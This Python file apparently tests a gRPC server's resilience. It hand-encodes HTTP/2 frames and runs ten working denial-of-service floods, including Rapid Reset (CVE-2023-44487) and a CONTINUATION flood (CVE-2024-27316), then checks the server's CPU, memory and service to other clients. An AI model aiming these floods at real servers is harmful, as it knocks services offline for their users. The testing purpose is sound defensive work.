"""Floods of HTTP/2 frames, encoded by hand (RFC 9113)."""

import socket
import struct
import time

from target import EXPORT, HEADER_SECONDS, IDLE_SECONDS, MEBIBYTE, close, closed_within, connect

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
# Maximum cost of a flood on one connection.
CPU_SECONDS, GROWTH_BYTES = 6, 128 * MEBIBYTE


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header without indexing (RFC 7541, section 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def call(path=EXPORT):
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost",
              "content-type": "application/grpc", "te": "trailers"}
    return b"".join(literal(name, value) for name, value in fields.items())


def opened(target, settings=b""):
    connection = connect(target.grpc)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return connection


def pour(connection, chunks, seconds=8):
    """Sends as much as the server accepts, and reads its responses. Returns the number of bytes
    sent.
    """
    deadline = time.monotonic() + seconds
    sent = 0
    connection.settimeout(1)
    try:
        for chunk in chunks:
            if time.monotonic() > deadline:
                break
            view = memoryview(chunk)
            while view and time.monotonic() < deadline:
                connection.setblocking(False)
                try:
                    while connection.recv(1 << 16):
                        pass
                except BlockingIOError:
                    pass
                try:
                    count = connection.send(view)
                    sent, view = sent + count, view[count:]
                except BlockingIOError:
                    time.sleep(0.005)
    except (OSError, socket.timeout):
        pass
    return sent


def flood(target, chunks, settings=b""):
    """A flood on one connection: its cost, and whether others were served meanwhile."""
    cpu, rss = target.cpu_seconds(), target.rss_bytes()
    connection = opened(target, settings)
    sent = pour(connection, chunks)
    works = target.works()
    cpu, growth = target.cpu_seconds() - cpu, target.rss_bytes() - rss
    close([connection])
    said = f"took {sent / MEBIBYTE:.1f} MiB, {cpu:.1f} CPU-seconds, {growth / MEBIBYTE:+.0f} MiB, others served: {works}"
    return said, works and cpu < CPU_SECONDS and growth < GROWTH_BYTES


def rapid_reset(target):
    """20,000 calls, each reset at once (CVE-2023-44487)."""
    reset = struct.pack(">I", 8)
    calls = (frame(HEADERS, END_HEADERS, 2 * number + 1, call()) + frame(RST_STREAM, 0, 2 * number + 1, reset)
             for number in range(20_000))
    return flood(target, calls)


def settings_flood(target):
    """200,000 SETTINGS frames."""
    return flood(target, (frame(SETTINGS, 0, 0) * 1000 for _ in range(200)))


def ping_flood(target):
    """200,000 PING frames."""
    return flood(target, (frame(PING, 0, 0, b"12345678") * 1000 for _ in range(200)))


def empty_data_flood(target):
    """One call with 200,000 empty DATA frames."""
    begin = [frame(HEADERS, END_HEADERS, 1, call())]
    return flood(target, iter(begin + [frame(DATA, 0, 1) * 1000] * 200))


def window_flood(target):
    """200,000 WINDOW_UPDATE frames of one byte."""
    return flood(target, (frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000 for _ in range(200)))


def continuation_flood(target):
    """A header of 64 MiB in CONTINUATION frames (CVE-2024-27316)."""
    begin = [frame(HEADERS, 0, 1, call())]
    piece = frame(CONTINUATION, 0, 1, literal("x-a", "y" * 100) * 100)
    return flood(target, iter(begin + [piece] * 6000))


def unended_header(target):
    """50 headers that never end, on separate connections."""
    connections = []
    for _ in range(50):
        connection = opened(target)
        connection.sendall(frame(HEADERS, 0, 1, call()))
        connections.append(connection)
    closed = closed_within(connections, IDLE_SECONDS + 30)
    close(connections)
    return f"closed {closed} of {len(connections)}", closed == len(connections)


def half_preface(target):
    """50 connections that send half of the preface."""
    connections = [connect(target.grpc) for _ in range(50)]
    for connection in connections:
        connection.sendall(PREFACE[:2])
    closed = closed_within(connections, HEADER_SECONDS + 4)
    close(connections)
    return f"closed {closed} of {len(connections)}", closed == len(connections)


def no_window(target):
    """500 calls on four connections whose flow control allows no responses."""
    cpu, rss = target.cpu_seconds(), target.rss_bytes()
    connections = []
    for _ in range(4):
        connection = opened(target, struct.pack(">HI", 4, 0))
        body = b"\x00\x00\x00\x00\x00"
        calls = (frame(HEADERS, END_HEADERS, 2 * number + 1, call())
                 + frame(DATA, END_STREAM, 2 * number + 1, body) for number in range(125))
        pour(connection, calls, 3)
        connections.append(connection)
    works = target.works()
    cpu, growth = target.cpu_seconds() - cpu, (target.rss_bytes() - rss) / MEBIBYTE
    close(connections)
    return f"{cpu:.1f} CPU-seconds, {growth:+.0f} MiB, others served: {works}", works and growth < 128


def slow_calls(target):
    """100 calls whose messages are never completed."""
    connection = opened(target)
    for number in range(100):
        connection.sendall(frame(HEADERS, END_HEADERS, 2 * number + 1, call())
                           + frame(DATA, 0, 2 * number + 1, b"\x00\x00\x00\x10\x00"))
    works = target.works()
    before = target.counter("requests_timed_out")
    time.sleep(6)
    late = target.counter("requests_timed_out") - before
    close([connection])
    return f"ended {late} of 100 in time, others served: {works}", works and late >= 100


ATTACKS = [rapid_reset, settings_flood, ping_flood, empty_data_flood, window_flood, continuation_flood, unended_header,
           half_preface, no_window, slow_calls]
